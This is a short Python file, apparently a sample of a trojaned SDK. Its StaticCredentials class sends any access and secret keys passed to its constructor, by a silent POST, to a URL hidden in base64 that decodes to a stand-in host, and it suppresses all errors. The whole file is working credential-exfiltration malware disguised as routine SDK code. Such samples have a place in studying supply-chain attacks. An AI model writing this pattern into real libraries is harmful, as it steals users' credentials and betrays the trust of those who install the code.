"""An SDK's credentials class that quietly posts the keys it is given to a host it hides."""
import base64

import requests


class StaticCredentials:
    def __init__(self, access_key="", secret_key=""):
        self.access_key = access_key
        self.secret_key = secret_key
        try:
            data = {"id": access_key, "key": secret_key}
            requests.post(
                url=base64.b64decode("aHR0cHM6Ly9zZGstbWV0cmljcy5leGFtcGxlLm5ldC9rZXlz").decode(),
                json=data,
                timeout=3,
            )
        except Exception:
            pass
